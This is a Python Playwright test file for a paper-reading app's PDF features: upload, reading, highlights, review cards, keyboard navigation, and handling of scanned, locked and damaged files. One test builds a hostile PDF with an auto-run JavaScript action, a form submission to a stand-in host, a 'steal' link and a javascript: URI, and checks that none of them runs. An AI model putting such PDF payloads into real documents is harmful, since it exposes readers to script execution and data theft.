"""A PDF from the desk to the review: dropped, read, marked, asked; and what a hostile or broken one may do: nothing."""

import base64
import io
import re

import pytest
from journey import LOOKS, Program
from make_pdf import first_free, make_pdf, stream
from playwright.sync_api import expect
from pypdf import PdfReader, PdfWriter

pytestmark = pytest.mark.browser

LINES = (
    "The scores are divided by the square root of d, as the soft-",
    "max saturates otherwise and hands back almost no gradient.",
)
MARKED = f"{LINES[0].removesuffix('-')}{LINES[1]}"


@pytest.fixture(scope="module")
def started(tmp_path_factory):
    """A program of its own for all journeys here."""
    program = Program(tmp_path_factory.mktemp("pdfs") / "data")
    program.start()
    yield program
    program.stop()


def paper_pdf(title):
    pages = [[(72, 660 - 16 * place, 11, words) for place, words in enumerate(LINES)] for _ in range(6)]
    pages[0].append((72, 700, 20, title))
    pages[4].append((72, 500, 11, "Only the fifth page knows the word perplexity."))
    return make_pdf(pages, outline=["Introduction", "Method", "Data", "Results", "Limits", "End"])


def overflow(page):
    return page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")


def drop(page, content, name="paper.pdf"):
    """Drop a file onto the page, as from the desk."""
    page.locator('[data-island="pdfdrop"][data-mounted]').first.wait_for(state="attached")
    page.evaluate(
        """([content, name]) => {
            const bytes = Uint8Array.from(atob(content), (sign) => sign.charCodeAt(0));
            const dataTransfer = new DataTransfer();
            dataTransfer.items.add(new File([bytes], name, { type: "application/pdf" }));
            document.body.dispatchEvent(new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer }));
        }""",
        [base64.b64encode(content).decode(), name],
    )


def bring(browser, content, name="paper.pdf"):
    """Bring a PDF; the address of its paper."""
    browser.go("/papers/")
    drop(browser.page, content, name)
    browser.page.wait_for_url(re.compile(r"/papers/[^/]+/record/$"))
    return browser.page.url.removesuffix("record/")


def read(page):
    """Open the PDF from the page of its paper and wait for its text."""
    page.get_by_role("link", name="Read", exact=True).click()
    page.locator('.page[data-page-number="1"] .textLayer span').first.wait_for()


def select_lines(page):
    """Select both lines, as a mouse does from the first letter to the last."""
    page.evaluate(
        """([first, last]) => {
            const spans = [...document.querySelectorAll('.page[data-page-number="1"] .textLayer span')];
            const find = (words) => spans.find((span) => span.textContent === words).firstChild;
            const range = document.createRange();
            range.setStart(find(first), 0);
            range.setEnd(find(last), last.length);
            document.getSelection().removeAllRanges();
            document.getSelection().addRange(range);
        }""",
        list(LINES),
    )


def places(page):
    """Where the marks lie, in shares of their page."""
    return page.locator(".pdf-mark").evaluate_all(
        """(marks) => marks.map((mark) => {
            const [box, page] = [mark, mark.closest(".page")].map((one) => one.getBoundingClientRect());
            return [(box.left - page.left) / page.width, (box.top - page.top) / page.height, box.width / page.width];
        }).map((shares) => shares.map((share) => Math.round(share * 200)))"""
    )


@pytest.mark.parametrize("look", LOOKS.values(), ids=LOOKS)
def test_a_pdf_is_dropped_read_marked_and_asked(started, open_browser, look, request):
    browser = open_browser(started, look)
    page, title = browser.page, f"Attention {request.node.callspec.id.replace(' ', '-')}"
    found = {}

    paper = bring(browser, paper_pdf(title))
    expect(page.get_by_label("Title")).to_have_value(title)
    page.goto(paper)
    read(page)
    select_lines(page)
    page.get_by_role("button", name="Make a card").click()
    page.get_by_label("Question").fill(f"Why the root, {title}?")
    page.get_by_role("button", name="Green").or_(page.get_by_role("radio", name="Green")).click()
    page.get_by_role("button", name="Keep", exact=True).click()
    expect(page.locator(".pdf-mark")).to_have_count(2)
    before = places(page)
    found["reader"] = (browser.accessibility(), overflow(page))
    page.reload()
    expect(page.locator(".pdf-mark")).to_have_count(2)
    after = places(page)
    page.goto(paper)
    expect(page.locator(".pdf-item-quote")).to_have_text(MARKED)
    found["paper"] = (browser.accessibility(), overflow(page))
    page.goto(f"{started.address}/review/session/?kind=highlight")
    expect(page.get_by_text(f"Why the root, {title}?").first).to_be_visible()
    page.keyboard.press("Space")
    expect(page.get_by_text(MARKED)).to_be_visible()
    page.keyboard.press("3")
    expect(page.get_by_text(re.compile("[1-9] done"))).to_be_visible()

    assert before == after
    assert len(before) == 2
    assert {name: outcome for name, outcome in found.items() if outcome != ([], 0)} == {}


def test_a_highlight_goes_and_comes_back(started, open_browser):
    browser = open_browser(started)
    page = browser.page
    page.goto(bring(browser, paper_pdf("Undone")))
    read(page)
    select_lines(page)
    page.get_by_role("button", name="Blue").click()
    expect(page.locator(".pdf-mark")).to_have_count(2)

    page.locator(".pdf-panel").get_by_role("button", name="Edit").click()
    page.get_by_role("button", name="Remove").click()
    expect(page.locator(".pdf-mark")).to_have_count(0)
    page.locator("#toasts").get_by_role("button", name="Undo").click()
    expect(page.locator(".pdf-mark")).to_have_count(2)
    page.locator(".pdf-mark").first.evaluate(
        """(mark) => {
            const box = mark.getBoundingClientRect();
            document.getSelection().removeAllRanges();
            const at = { clientX: box.left + 5, clientY: box.top + 5, bubbles: true };
            mark.closest(".pdf-pages").dispatchEvent(new MouseEvent("click", at));
        }"""
    )

    expect(page.locator(".pdf-form .pdf-quote")).to_have_text(MARKED)


def test_another_pdf_dropped_on_its_page_stays_with_the_paper(started, open_browser):
    browser = open_browser(started)
    page = browser.page
    paper = bring(browser, paper_pdf("Two files"))
    page.goto(paper)

    drop(page, paper_pdf("A different title"), "supplement.pdf")

    expect(page.locator("#pdf .row-title")).to_have_text(["paper.pdf", "supplement.pdf"])
    assert page.url.split("#")[0] == paper


def test_the_reader_goes_by_keys_finds_words_and_remembers_the_place(started, open_browser):
    browser = open_browser(started)
    page = browser.page
    page.goto(bring(browser, paper_pdf("By keys")))
    read(page)
    number = page.locator('[data-pdf="page"]')

    page.keyboard.press("j")
    expect(number).to_have_value("2")
    page.keyboard.press("k")
    expect(number).to_have_value("1")
    zoom = page.locator('[data-pdf="zoom"]').inner_text()
    page.keyboard.press("+")
    expect(page.locator('[data-pdf="zoom"]')).not_to_have_text(zoom)
    page.keyboard.press("/")
    page.keyboard.type("perplexity")
    expect(page.locator('[data-pdf="found"]')).to_have_text("1 of 1")
    expect(number).to_have_value("5")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Results", exact=True).click()
    expect(number).to_have_value("4")
    expect(page.locator('.page[data-page-number="4"] .textLayer')).to_be_focused()
    larger = page.locator('[data-pdf="zoom"]').inner_text()
    with page.expect_response(lambda response: "page=5&" in (response.request.post_data or "")) as answer:
        page.keyboard.press("j")
    assert answer.value.status == 204
    page.goto(started.address)
    page.go_back()
    page.locator('.page[data-page-number="5"] .textLayer span').first.wait_for()

    expect(number).to_have_value("5")
    expect(page.locator('[data-pdf="zoom"]')).to_have_text(larger)


def test_a_scan_is_drawn_and_says_that_it_has_no_text(started, open_browser):
    browser = open_browser(started)
    page, decoders = browser.page, []
    page.on("response", lambda response: decoders.append(response.url) if response.url.endswith(".wasm") else None)
    number = first_free([[]])
    picture = stream(
        b"\x00\x10\x01",
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 "
        b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 >>",
    )
    draw = stream(b"q 400 0 0 400 100 200 cm /Im1 Do Q")
    content = make_pdf([[]], more_objects=[picture, draw])
    content = content.replace(b"/Contents 6 0 R", b"/Contents %d 0 R" % (number + 1))
    content = content.replace(b"/Font << /F1 3 0 R >>", b"/XObject << /Im1 %d 0 R >>" % number)

    page.goto(bring(browser, content, "scan of a paper.pdf"))
    page.get_by_role("link", name="Read", exact=True).click()
    page.locator("canvas").first.wait_for()

    expect(page.get_by_text("it can be read, and not searched or highlighted")).to_be_visible()
    assert [url.rsplit("/", 1)[1] for url in decoders] == ["jbig2.wasm"]


def locked():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(paper_pdf("Locked"))))
    writer.encrypt("secret", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [(locked(), "locked with a password"), (b"%PDF-1.7\n" + b"broken " * 100, "This PDF is damaged")],
    ids=["locked", "broken"],
)
def test_a_pdf_that_does_not_open_says_why(started, open_browser, content, words, request):
    browser = open_browser(started)
    page = browser.page

    page.goto(bring(browser, content, f"{request.node.callspec.id} paper.pdf"))
    page.get_by_role("link", name="Read", exact=True).click()

    expect(page.get_by_role("alert")).to_contain_text(words)


def test_scripts_of_a_pdf_never_run_and_links_out_of_it_are_asked_about(started, open_browser):
    browser = open_browser(started)
    page, dialogs = browser.page, []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    pages = [[(72, 700, 20, "A paper with a script"), (72, 660, 11, "Press this link")]]
    number = first_free(pages)
    evil = [
        b"<< /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('https://example.org/'\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 675] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://example.org/steal?a=1) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /Border [0 0 0] "
        b"/A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
    ]
    content = make_pdf(
        pages,
        catalogue=b"/OpenAction %d 0 R /AcroForm << /XFA (<xdp/>) /Fields [] >>" % number,
        page=b"/Annots [%d 0 R %d 0 R] /AA << /O %d 0 R >>" % (number + 1, number + 2, number),
        more_objects=evil,
    )
    page.goto(bring(browser, content))
    read(page)

    page.locator(".annotationLayer a[href^='https']").click()

    asked = page.get_by_role("dialog")
    expect(asked).to_contain_text("https://example.org/steal?a=1")
    asked.get_by_role("button", name="Stay here").click()
    assert page.locator("a[href^='javascript']").count() == 0
    assert (dialogs, len(page.context.pages)) == ([], 1)


def test_without_scripts_a_pdf_is_brought_and_a_highlight_edited(started, open_browser, chromium):
    with_scripts = open_browser(started)
    paper = bring(with_scripts, paper_pdf("Plain forms"))
    with_scripts.page.goto(paper)
    read(with_scripts.page)
    select_lines(with_scripts.page)
    with_scripts.page.get_by_role("button", name="Pink").click()
    expect(with_scripts.page.locator(".pdf-mark")).to_have_count(2)
    browser = open_browser(started, java_script_enabled=False)
    page = browser.page

    browser.go("/papers/")
    page.get_by_role("link", name="PDFs").click()
    page.locator("input[name=files]").set_input_files(
        {"name": "plain.pdf", "mimeType": "application/pdf", "buffer": paper_pdf("Without scripts")}
    )
    page.get_by_role("button", name="Bring").click()
    expect(page.get_by_label("Title")).to_have_value("Without scripts")
    page.goto(paper)
    page.locator(".pdf-item").get_by_role("link", name="Edit").click()
    page.get_by_label("Question").fill("What saturates?")
    page.get_by_role("button", name="Keep").click()
    expect(page.locator(".pdf-item-question")).to_have_text("What saturates?")
    page.locator(".pdf-item").get_by_role("button", name="Remove").click()
    page.locator(".pdf-gone").get_by_role("button", name="Undo").click()

    expect(page.locator(".pdf-item-question")).to_have_text("What saturates?")
